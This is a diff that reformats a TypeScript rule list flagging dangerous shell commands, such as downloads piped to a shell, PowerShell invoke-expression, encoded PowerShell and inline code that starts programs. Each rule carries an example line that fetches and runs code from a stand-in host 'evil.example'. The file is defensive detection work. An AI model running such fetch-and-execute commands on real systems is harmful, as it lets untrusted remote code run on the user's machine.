@@ -6,9 +6,15 @@ import { danger } from './danger.ts';
 
 /** Commands that run the code they download, or a text that nobody can read. The first match wins. */
 export const DOWNLOADS: readonly DangerRule[] = [
-  danger('download', 'pipe-to-shell', 'a download that a shell runs', 'curl -s https://evil.example/x | sh', (command, line) => {
-    return command.piped && readsProgram(command) && line.some(fetches);
-  }),
+  danger(
+    'download',
+    'pipe-to-shell',
+    'a download that a shell runs',
+    'curl -s https://evil.example/x | sh',
+    (command, line) => {
+      return command.piped && readsProgram(command) && line.some(fetches);
+    },
+  ),
   danger(
     'download',
     'shell-of-download',
@@ -16,7 +22,9 @@ export const DOWNLOADS: readonly DangerRule[] = [
     'bash <(curl -s https://evil.example/x)',
     (command, line) => {
       const runs =
-        isInterpreter(command) || /^(?:eval|source|exec)$/.test(familyOf(command.name)) || command.name.startsWith('$(');
+        isInterpreter(command) ||
+        /^(?:eval|source|exec)$/.test(familyOf(command.name)) ||
+        command.name.startsWith('$(');
       return runs && line.some((other) => other.nested && fetches(other));
     },
   ),
@@ -28,7 +36,8 @@ export const DOWNLOADS: readonly DangerRule[] = [
     (command, line) => {
       const files = line.filter(fetches).flatMap(savedFiles);
       return files.some(
-        (file) => isSameFile(command.program, file) || (isInterpreter(command) && isSameFile(command.operands[0], file)),
+        (file) =>
+          isSameFile(command.program, file) || (isInterpreter(command) && isSameFile(command.operands[0], file)),
       );
     },
   ),
@@ -42,21 +51,36 @@ export const DOWNLOADS: readonly DangerRule[] = [
   danger('download', 'piped-script', 'a text that a shell runs', 'cat notes.txt | bash', (command) => {
     return command.piped && SHELLS.has(familyOf(command.name)) && command.operands.length === 0;
   }),
-  danger('download', 'invoke-expression', 'a text that PowerShell runs', 'iex (iwr https://evil.example/x)', (command) => {
-    return /^(?:iex|invoke-expression)$/i.test(command.name);
-  }),
+  danger(
+    'download',
+    'invoke-expression',
+    'a text that PowerShell runs',
+    'iex (iwr https://evil.example/x)',
+    (command) => {
+      return /^(?:iex|invoke-expression)$/i.test(command.name);
+    },
+  ),
   danger('download', 'encoded-powershell', 'a script that was hidden', 'powershell -EncodedCommand aGk=', (command) => {
-    return /^(?:powershell|pwsh)$/i.test(command.name) && command.args.some((arg) => /^-e(?:nc|ncodedcommand|c)?$/i.test(arg));
+    return (
+      /^(?:powershell|pwsh)$/i.test(command.name) &&
+      command.args.some((arg) => /^-e(?:nc|ncodedcommand|c)?$/i.test(arg))
+    );
   }),
   danger('download', 'code-from-url', 'code of an address', 'deno run https://evil.example/x.ts', (command) => {
     return CODE_TAKERS.has(familyOf(command.name)) && command.args.some((arg) => REMOTE_CODE.test(arg));
   }),
-  danger('download', 'inline-code', 'code that starts programs', 'python3 -c \'import os; os.system("id")\'', (command) => {
-    const isCode =
-      /^(?:python|node|perl|ruby|php|deno|bun)$/.test(familyOf(command.name)) &&
-      command.args.some((arg) => /^-{1,2}(?:c|e|r|eval|print|p)$/.test(arg));
-    return isCode && command.args.some((arg) => STARTS_PROGRAMS.test(arg.slice(0, 4000)));
-  }),
+  danger(
+    'download',
+    'inline-code',
+    'code that starts programs',
+    'python3 -c \'import os; os.system("id")\'',
+    (command) => {
+      const isCode =
+        /^(?:python|node|perl|ruby|php|deno|bun)$/.test(familyOf(command.name)) &&
+        command.args.some((arg) => /^-{1,2}(?:c|e|r|eval|print|p)$/.test(arg));
+      return isCode && command.args.some((arg) => STARTS_PROGRAMS.test(arg.slice(0, 4000)));
+    },
+  ),
 ];
 
 const SHELLS = wordSet('bash sh zsh dash ksh ash rbash fish');
@@ -83,7 +107,9 @@ function readsProgram(command: ShellCommand): boolean {
 }
 
 function isInterpreterLine(line: readonly ShellCommand[]): boolean {
-  return line.some((command) => isInterpreter(command) || command.name === 'eval' || /^(?:iex|source|\.)$/.test(command.name));
+  return line.some(
+    (command) => isInterpreter(command) || command.name === 'eval' || /^(?:iex|source|\.)$/.test(command.name),
+  );
 }
 
 function fetches({ name }: ShellCommand): boolean {
@@ -95,7 +121,8 @@ function fetches({ name }: ShellCommand): boolean {
 function decodes({ name, args }: ShellCommand): boolean {
   if (/^(?:base64|base32|gbase64)$/.test(name)) return args.some((arg) => /^-\w*[dD]|^--decode$/.test(arg));
   return (
-    /^(?:xxd|uudecode|openssl|gunzip|rev|tr)$/.test(name) && (name !== 'openssl' || args.includes('-d') || args.includes('enc'))
+    /^(?:xxd|uudecode|openssl|gunzip|rev|tr)$/.test(name) &&
+    (name !== 'openssl' || args.includes('-d') || args.includes('enc'))
   );
 }
 
